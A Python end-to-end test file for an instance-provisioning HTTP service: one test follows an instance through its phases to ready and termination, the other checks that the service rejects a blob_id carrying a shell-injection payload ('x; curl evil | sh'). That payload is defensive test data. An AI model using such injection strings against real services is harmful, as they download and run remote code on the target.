"""Instances over HTTP against make local: the workflow advances the phases to ready."""

from __future__ import annotations

import time
from typing import Any

import pytest

from tests.e2e.conftest import Sandbox

pytestmark = pytest.mark.e2e


def test_an_instance_goes_through_its_phases_to_ready_then_terminates(sandbox: Sandbox) -> None:
    code, created = sandbox.request("POST", "/instances", {"blob_id": "walrus_Blob-1"}, user="ivy")
    assert (code, created["status"]) == (202, "waiting_for_instance")
    seen: list[str] = []
    deadline = time.monotonic() + 60
    current: dict[str, Any] = created
    while current["status"] not in {"ready", "failed"} and time.monotonic() < deadline:
        time.sleep(0.3)
        code, current = sandbox.request("GET", f"/instances/{created['id']}", user="ivy")
        assert code == 200
        if not seen or seen[-1] != current["status"]:
            seen.append(current["status"])
    assert current["status"] == "ready", current
    assert set(seen) <= {"waiting_for_instance", "waiting_for_ssm", "fetching_blob", "ready"}
    assert current["ec2"]["state"] == "running"
    assert current["ec2"]["instance_type"]
    assert current["private_ip"]

    code, deleted = sandbox.request("DELETE", f"/instances/{created['id']}", user="ivy")
    assert (code, deleted["status"]) == (202, "terminated")
    code, shown = sandbox.request("GET", f"/instances/{created['id']}", user="ivy")
    assert shown["ec2"]["state"] in {"shutting-down", "terminated"}


def test_a_shell_injection_blob_id_is_refused(sandbox: Sandbox) -> None:
    code, error = sandbox.request(
        "POST", "/instances", {"blob_id": "x; curl evil | sh"}, user="ivy"
    )
    assert (code, error["error"]["code"]) == (400, "invalid_request")
